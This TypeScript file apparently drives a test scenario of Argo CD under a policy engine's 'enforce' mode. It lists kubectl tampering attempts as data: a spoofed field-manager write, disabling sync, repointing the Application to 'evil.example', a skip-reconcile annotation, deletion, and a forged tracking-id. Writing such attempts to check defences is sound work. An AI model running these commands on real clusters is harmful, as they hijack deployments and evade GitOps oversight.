/** The real Argo CD under `enforce`, which syncs, prunes and heals by itself. */
import { Argocd } from './argocd.ts'
import { tellStory, type StoryOptions } from './story.ts'

const APPLICATION = ['-n', 'argocd', 'application/shop']

const story: Omit<StoryOptions, 'title'> = {
  preset: 'argocd',
  install: (plane, shop) => Argocd.install(plane, shop),
  attempts: {
    "writes under Argo CD's field manager": [
      'patch',
      '-n',
      'shop',
      'configmap/settings',
      '--type=merge',
      '--field-manager=argocd-controller',
      '-p={"data":{"message":"hacked"}}',
    ],
    'stops the Application from syncing': [
      'patch',
      ...APPLICATION,
      '--type=merge',
      '-p={"spec":{"syncPolicy":null}}',
    ],
    'points Argo CD at another repository': [
      'patch',
      ...APPLICATION,
      '--type=merge',
      '-p={"spec":{"source":{"repoURL":"https://evil.example/shop.git"}}}',
    ],
    'has Argo CD pass over the Application': [
      'annotate',
      ...APPLICATION,
      'argocd.argoproj.io/skip-reconcile=true',
    ],
    'deletes the Application': ['delete', ...APPLICATION, '--wait=false'],
    'gives an object to another Application': [
      'annotate',
      '--overwrite',
      '-n',
      'shop',
      'configmap/settings',
      'argocd.argoproj.io/tracking-id=other:/ConfigMap:shop/settings',
    ],
  },
}

tellStory({ title: 'Argo CD under enforce', ...story })
tellStory({ title: 'Argo CD under enforce, its sources discovered', discover: { argocd: {} }, ...story })
